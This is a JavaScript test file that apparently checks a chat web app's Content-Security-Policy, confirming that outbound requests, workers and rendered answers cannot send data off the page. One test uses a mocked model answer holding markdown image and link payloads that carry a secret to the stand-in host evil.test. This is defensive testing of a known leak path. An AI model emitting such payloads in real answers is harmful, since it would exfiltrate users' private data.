// Nothing leaves: attempts to send something out are made, and fail, on a server that sends no policy of its own.
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { attempts, elsewhere } from '../support/ways_out.mjs';
import { test, ok, equal } from '../support/harness.mjs';
import { open } from '../support/page.mjs';
import { mockSite, serve, web } from '../support/site.mjs';

test('policy: every way out of the page is shut', async (t) => {
  const other = await elsewhere();
  const { page, context } = await open(t);
  const out = await page.evaluate(attempts, other.url);
  const through = Object.entries(out).filter(([, v]) => v !== 'blocked').map(([k]) => k);
  equal(through, []);
  equal(other.asked, []);
  ok(page.url().startsWith('http://127.0.0.1') && !page.url().startsWith(other.url), 'the form led nowhere');
  await context.close();
});

test('policy: the test could fail: without the policy the same attempts get out', async (t) => {
  const other = await elsewhere();
  const { browser } = await import('../support/browser.mjs');
  const b = await browser(t);
  const context = await b.newContext();
  const page = await context.newPage();
  const dir = await mockSite();
  await writeFile(join(dir, 'bare.html'), '<!doctype html><title>x</title><body>');
  const site = await serve(dir);
  await page.goto(`${site.url}bare.html`);
  const out = await page.evaluate(attempts, other.url).catch(() => null);
  ok(other.asked.length >= 8, `${other.asked}`);
  ok(out === null || out.eval === 'went through');
  await context.close();
});

test('policy: a worker is under it too, once the service worker serves it', async (t) => {
  const other = await elsewhere();
  const site = await serve(await mockSite());
  const { page, context } = await open(t, { site });
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.reload();
  await page.waitForFunction(() => navigator.serviceWorker.controller);
  const out = await page.evaluate((target) => new Promise((resolve, reject) => {
    const w = new Worker('api/probe-worker.js', { type: 'module' });
    w.onmessage = (e) => resolve(e.data);
    w.onerror = (e) => reject(new Error(e.message));
    w.postMessage(target);
  }), other.url);
  for (const [name, what] of Object.entries(out)) ok(what.startsWith('blocked'), `${name}: ${what}`);
  equal(other.asked, []);
  await context.close();
});

test('policy: prompts, answers and files are in no request', async (t) => {
  const secret = 'xylophone-4711';
  const { page, site, ready, ask, done } = await open(t, { mock: { accepts: { images: true, audio: true }, answers: [`They said ${secret} ![a](https://evil.test/?q=${secret}) [b](https://evil.test/${secret})`] } });
  const seen = [];
  page.on('request', (r) => seen.push(`${r.method()} ${r.url()} ${r.postData() ?? ''} ${JSON.stringify(r.headers())}`));
  await ready();
  const before = site.requests.length;
  await ask(`My secret is ${secret}`);
  await page.waitForTimeout(400);
  equal(seen.filter((r) => r.includes(secret)), []);
  equal(site.requests.slice(before), [], 'an answer makes no request at all');
  await done();
});

test('policy: header, page and service worker say the same', async (t) => {
  const text = (name) => readFile(join(web, name), 'utf8');
  const directives = (policy) => policy.split(';').map((d) => d.trim()).filter(Boolean).sort();
  const meta = async (name) => directives(/http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(await text(name))[1]);
  const page = await meta('app/index.html');
  equal(await meta('app/device.html'), page);
  const extra = ["require-trusted-types-for 'script'", 'trusted-types default'];
  const worker = (await text('app/sw.js')).match(/const POLICY = ([\s\S]+?);\n/)[1];
  // eslint-disable-next-line no-new-func -- our own source, read to compare it
  const policy = new Function('hosts', `return ${worker}`)([]);
  equal(directives(policy), [...page.filter((d) => !extra.includes(d)), "frame-ancestors 'none'"].sort());
  for (const name of ['app/index.html', 'app/device.html']) {
    const html = await text(name);
    ok(!/<script(?![^>]*\bsrc=)/.test(html) && !/\son\w+=/.test(html) && !/\sstyle=/.test(html), `${name} has code or style in its markup`);
  }
});
